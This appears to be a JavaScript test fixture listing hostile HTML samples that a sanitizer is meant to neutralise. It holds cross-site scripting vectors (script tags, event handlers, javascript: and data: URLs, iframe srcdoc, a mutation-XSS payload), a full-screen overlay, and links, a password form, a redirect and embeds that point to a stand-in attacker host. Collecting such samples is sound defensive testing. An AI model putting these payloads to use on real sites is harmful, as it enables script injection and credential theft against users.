/** Samples of an attacker who controls a server; none may run, load, or imitate the product. */
export const hostileHtml = [
  '<p>Nothing here may run.</p>',
  '<script>window.attacked = "script"</script>',
  '<img src="data:image/png;base64,x" onerror="window.attacked = \'onerror\'">',
  '<svg onload="window.attacked = \'svg\'"><a xlink:href="javascript:window.attacked=1"><text>x</text></a></svg>',
  '<style>* { display: none !important }</style><link rel="stylesheet" href="https://evil.test/a.css">',
  '<p style="position:fixed;inset:0;z-index:99" class="attack" id="main">over everything</p>',
  '<a href="javascript:window.attacked=\'link\'">a script</a>',
  '<a href="data:text/html,<script>opener.attacked=1</script>">a page</a>',
  '<a href="https://evil.test/login" target="_top">another host</a>',
  '<iframe srcdoc="<script>parent.attacked = \'frame\'</script>"></iframe>',
  '<form action="https://evil.test"><input name="password"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.attacked = \'math\'"></style></mglyph></table></mtext></math>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
].join('');
